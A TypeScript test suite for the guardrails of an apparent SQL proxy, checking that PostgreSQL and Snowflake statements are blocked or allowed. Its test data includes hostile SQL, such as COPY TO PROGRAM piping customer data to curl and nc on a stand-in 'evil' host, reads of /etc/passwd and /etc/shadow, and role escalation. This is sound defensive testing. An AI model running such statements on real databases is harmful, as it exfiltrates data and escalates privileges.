import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { Analysis } from '@airlock/contracts';
import { initParsers, inspect, lexicalFunctions, snowflakeCommands } from '../../src/analysis/index.js';
import { buildMaskingPlan } from '../../src/masking-plan.js';
import { checkGuardrails, DEFAULT_DENY_LIST, forbiddenViolation, inferenceViolation, multipleStatementsViolation } from '../../src/guardrails.js';
import { demoCatalog, demoRules } from './fixtures.js';

before(async () => {
  await initParsers();
});

/** Runs every guardrail for a PostgreSQL statement as the given group would send it on connection `demo`. */
function check(sql: string, groups: string[] = ['analysts']) {
  const r = inspect(sql, 'postgres', demoCatalog);
  const { maskedSources } = buildMaskingPlan({
    analysis: r.analysis,
    connection: 'demo',
    groups,
    rules: demoRules,
    detectors: [],
    direct: r.direct,
    writtenSources: r.writtenSources,
  });
  return checkGuardrails({ analysis: r.analysis, commands: r.commands, maskedSources, writtenSources: r.writtenSources });
}

describe('PostgreSQL guardrails', () => {
  const cases: { sql: string; code: string | null; rule?: string }[] = [
    { sql: 'SELECT 1; SELECT 2', code: 'policy.multiple_statements', rule: 'guardrail:single_statement' },
    { sql: 'SELECT id FROM customers;', code: null },
    { sql: "SELECT pg_read_file('/etc/passwd')", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:pg_read_file' },
    { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:pg_read_file' },
    { sql: "SELECT id FROM customers WHERE name = (SELECT pg_read_binary_file('/x')::text)", code: 'policy.forbidden_function' },
    { sql: "SELECT * FROM pg_ls_dir('.')", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:pg_ls_*' },
    { sql: "SELECT pg_stat_file('postgresql.conf')", code: 'policy.forbidden_function' },
    { sql: "SELECT lo_import('/etc/passwd')", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:lo_*' },
    { sql: "SELECT lo_export(1234, '/tmp/x')", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:lo_*' },
    { sql: "SELECT dblink_connect('host=evil')", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:dblink*' },
    { sql: "SELECT set_config('role', 'postgres', false)", code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:set_config' },
    { sql: 'SELECT pg_terminate_backend(42)', code: 'policy.forbidden_function' },
    { sql: 'SELECT pg_cancel_backend(42)', code: 'policy.forbidden_function' },
    { sql: 'SELECT pg_reload_conf()', code: 'policy.forbidden_function' },
    { sql: 'SELECT pg_sleep(600)', code: 'policy.forbidden_function', rule: 'guardrail:postgres:function:pg_sleep*' },
    { sql: "SELECT query_to_xml('select ssn from customers', true, false, '')", code: 'policy.forbidden_function' },
    { sql: "COPY customers TO PROGRAM 'curl -d @- evil'", code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:copy * program' },
    { sql: "COPY orders FROM PROGRAM 'cat /etc/passwd'", code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:copy * program' },
    { sql: "COPY orders TO '/tmp/orders.csv'", code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:copy * file' },
    { sql: 'COPY orders TO STDOUT', code: null },
    { sql: 'COPY orders FROM STDIN', code: null },
    { sql: 'SET ROLE postgres', code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:set role' },
    { sql: 'SET LOCAL ROLE postgres', code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:set role' },
    { sql: 'RESET ROLE', code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:reset role' },
    { sql: 'SET SESSION AUTHORIZATION postgres', code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:set session_authorization' },
    { sql: 'SET search_path = evil, public', code: 'policy.forbidden_command' },
    { sql: 'SET statement_timeout = 0', code: 'policy.forbidden_command' },
    { sql: 'SET row_security = off', code: 'policy.forbidden_command' },
    { sql: 'SET session_replication_role = replica', code: 'policy.forbidden_command' },
    { sql: 'RESET ALL', code: 'policy.forbidden_command' },
    { sql: "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", code: 'policy.forbidden_command', rule: 'guardrail:postgres:command:do' },
    { sql: "LOAD 'auto_explain'", code: 'policy.forbidden_command' },
    { sql: "ALTER SYSTEM SET log_statement = 'none'", code: 'policy.forbidden_command' },
    { sql: "SET application_name = 'agent'", code: null },
    { sql: 'SELECT upper(name), now() FROM customers', code: null },
    { sql: "SELECT id FROM customers WHERE ssn LIKE '123%'", code: 'policy.inference_on_masked_column', rule: 'guardrail:inference' },
    { sql: 'SELECT id FROM customers ORDER BY email', code: 'policy.inference_on_masked_column' },
    { sql: 'SELECT card_number FROM customers GROUP BY card_number', code: 'policy.inference_on_masked_column' },
    { sql: 'SELECT o.id FROM orders o JOIN customers c ON c.phone = o.customer_id::text', code: 'policy.inference_on_masked_column' },
    { sql: 'INSERT INTO orders (id, total) SELECT id, length(ssn) FROM customers', code: 'policy.masked_column_copied', rule: 'guardrail:masked_copy' },
    { sql: 'UPDATE customers SET notes = email WHERE id = 1', code: 'policy.masked_column_copied' },
    { sql: 'UPDATE customers SET notes = name WHERE id = 1', code: null },
  ];
  for (const c of cases) {
    test(`${c.sql} → ${c.code ?? 'allowed'}`, () => {
      const v = check(c.sql);
      assert.equal(v?.code ?? null, c.code);
      if (c.rule !== undefined) assert.equal(v?.rule, c.rule);
    });
  }

  test('pii-readers may filter and copy the columns they see in clear, but not run forbidden functions', () => {
    assert.equal(check("SELECT id FROM customers WHERE ssn LIKE '123%'", ['pii-readers']), null);
    assert.equal(check('INSERT INTO orders (id, total) SELECT id, length(ssn) FROM customers', ['pii-readers']), null);
    assert.equal(check("SELECT pg_read_file('x')", ['pii-readers'])?.code, 'policy.forbidden_function');
  });

  test('messages tell the agent what to do and carry no value from the statement', () => {
    assert.deepEqual(check("SELECT id FROM customers WHERE ssn LIKE '123-45%'"), {
      code: 'policy.inference_on_masked_column',
      message:
        'filtering on customers.ssn, which is masked for you, is not allowed: it would reveal the masked values. Remove ssn from the WHERE clause, or ask for a group that may see it in clear.',
      rule: 'guardrail:inference',
    });
    assert.equal(
      check('SELECT id, email FROM customers ORDER BY 2')?.message,
      'ordering by customers.email, which is masked for you, is not allowed: it would reveal the masked values. Remove email from the ORDER BY, or ask for a group that may see it in clear.',
    );
    assert.equal(
      check("SELECT pg_read_file('/etc/shadow')")?.message,
      'the function pg_read_file is not allowed through Airlock: it reads or writes files on the database server. Remove it from the statement; if you need it, ask an operator.',
    );
    assert.equal(
      check("COPY customers TO PROGRAM 'nc evil 9'")?.message,
      'COPY TO PROGRAM is not allowed through Airlock: it runs a program on the database server. Remove it; Airlock sets up the session for you.',
    );
    assert.equal(
      check("SELECT 'secret-1'; SELECT 'secret-2'")?.message,
      'the request holds 2 statements; Airlock runs one statement per request. Send each statement on its own.',
    );
    for (const sql of ["SELECT id FROM customers WHERE email = 'alice@example.com'", "SET ROLE 'hunter2'", "SELECT set_config('x', 'hunter2', false)"]) {
      const v = check(sql);
      assert.ok(v !== null);
      assert.ok(!v.message.includes('alice') && !v.message.includes('hunter2'), v.message);
    }
  });

  test('several statements are allowed when the caller says so', () => {
    const { analysis } = inspect('SELECT 1; SELECT 2', 'postgres', demoCatalog);
    assert.equal(multipleStatementsViolation(analysis, true), null);
    assert.equal(multipleStatementsViolation(analysis)?.code, 'policy.multiple_statements');
  });

  test('the deny list can be extended from config, or replaced', () => {
    const { analysis, commands } = inspect('SELECT my_export(id) FROM orders', 'postgres', demoCatalog);
    assert.equal(forbiddenViolation({ analysis, commands }), null);
    const extra = [{ dialect: 'postgres' as const, kind: 'function' as const, pattern: 'my_*', reason: 'exports data' }];
    assert.equal(forbiddenViolation({ analysis, commands, extra })?.rule, 'guardrail:postgres:function:my_*');
    const sleeping = inspect('SELECT pg_sleep(1)', 'postgres', demoCatalog);
    assert.equal(forbiddenViolation({ ...sleeping, replaceDefaults: true }), null);
  });

  test('inferenceViolation reports the first masked usage with its clause', () => {
    const { analysis } = inspect("SELECT name FROM customers WHERE id > 3 GROUP BY name HAVING max(email) > 'a'", 'postgres', demoCatalog);
    assert.equal(inferenceViolation(analysis, [{ schema: 'public', table: 'customers', column: 'name' }])?.message.startsWith('grouping by customers.name'), true);
    assert.equal(inferenceViolation(analysis, [{ schema: 'public', table: 'customers', column: 'email' }])?.message.startsWith('filtering groups on customers.email'), true);
    assert.equal(inferenceViolation(analysis, []), null);
  });
});

describe('Snowflake guardrails (commands and functions from the lexer)', () => {
  function snowflake(sql: string): Analysis {
    return {
      dialect: 'snowflake',
      statementCount: 1,
      kind: 'other',
      kinds: ['other'],
      tables: [],
      outputColumns: [],
      usages: [],
      functions: [],
      fingerprint: '0'.repeat(64),
      normalized: sql,
    };
  }
  const cases: { sql: string; code: string | null; rule?: string }[] = [
    // USE ROLE is decided by the session allow-list (snowflake-surface.test.ts): only the lease's own role
    { sql: 'USE ROLE ACCOUNTADMIN', code: null },
    { sql: 'use secondary roles all', code: 'policy.forbidden_command', rule: 'guardrail:snowflake:command:use secondary roles' },
    // ALTER SESSION is decided by the session allow-list (snowflake-surface.test.ts), not refused outright
    { sql: "ALTER SESSION SET QUERY_TAG = 'x'", code: null },
    { sql: "EXECUTE IMMEDIATE 'SELECT 1'", code: 'policy.forbidden_command' },
    { sql: 'CALL my_proc()', code: 'policy.forbidden_command', rule: 'guardrail:snowflake:command:call' },
    { sql: 'COPY INTO @my_stage FROM CUSTOMERS', code: 'policy.forbidden_command', rule: 'guardrail:snowflake:command:copy into' },
    { sql: 'GET @my_stage file:///tmp/', code: 'policy.forbidden_command' },
    { sql: 'PUT file:///tmp/x.csv @my_stage', code: 'policy.forbidden_command' },
    { sql: 'CREATE OR REPLACE TEMPORARY STAGE s', code: 'policy.forbidden_command', rule: 'guardrail:snowflake:command:create stage' },
    { sql: 'CREATE STORAGE INTEGRATION i TYPE = EXTERNAL_STAGE', code: 'policy.forbidden_command', rule: 'guardrail:snowflake:command:create * integration' },
    { sql: 'SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))', code: 'policy.forbidden_function', rule: 'guardrail:snowflake:function:result_scan' },
    { sql: "SELECT SYSTEM$GET_PRIVATELINK_CONFIG()", code: 'policy.forbidden_function', rule: 'guardrail:snowflake:function:system$*' },
    { sql: "SELECT 'use role x' AS s -- CALL p()", code: null },
    { sql: 'USE WAREHOUSE analytics', code: null },
    { sql: 'SELECT EMAIL FROM CUSTOMERS', code: null },
  ];
  for (const c of cases) {
    test(`${c.sql} → ${c.code ?? 'allowed'}`, () => {
      const v = forbiddenViolation({ analysis: snowflake(c.sql), commands: snowflakeCommands(c.sql) });
      assert.equal(v?.code ?? null, c.code);
      if (c.rule !== undefined) assert.equal(v?.rule, c.rule);
    });
  }

  test('the lexer finds qualified and quoted function names', () => {
    assert.deepEqual(lexicalFunctions('SELECT "SYSTEM$X"(1), db.s.F(2) FROM t; SELECT g()'), ['system$x', 'db.s.f', 'g']);
  });

  test('the deny list is data: every entry is for a known dialect and kind', () => {
    assert.ok(DEFAULT_DENY_LIST.length > 30);
    for (const e of DEFAULT_DENY_LIST) {
      assert.ok(['postgres', 'snowflake'].includes(e.dialect));
      assert.ok(['function', 'command'].includes(e.kind));
      assert.ok(e.reason.length > 0 && e.pattern === e.pattern.toLowerCase());
    }
  });
});

describe('Snowflake relations refused whatever the rules say', () => {
  const cases: [sql: string, refused: boolean][] = [
    ['SELECT query_text FROM SNOWFLAKE.ACCOUNT_USAGE.QUERY_HISTORY', true],
    ['select * from snowflake.account_usage.access_history', true],
    ['select * from account_usage.login_history', true],
    ['select * from "ORGANIZATION_USAGE"."QUERY_HISTORY"', true],
    ['select * from snowflake.reader_account_usage.query_history', true],
    ['select o.id from orders o join snowflake.data_sharing_usage.listing_access_history h on h.id = o.id', true],
    ['select * from customers', false],
    ['select * from information_schema.tables', false],
  ];
  for (const [sql, refused] of cases) {
    test(sql, () => {
      const { analysis, commands } = inspect(sql, 'snowflake', demoCatalog);
      const v = checkGuardrails({ analysis, commands, maskedSources: [] });
      if (!refused) {
        assert.notEqual(v?.code, 'policy.forbidden_relation');
        return;
      }
      assert.equal(v?.code, 'policy.forbidden_relation');
      assert.match(v!.message, /usage views hold other sessions' statement text/);
      assert.match(v!.rule, /^guardrail:snowflake:relation:[a-z_]+_usage$/);
    });
  }
});
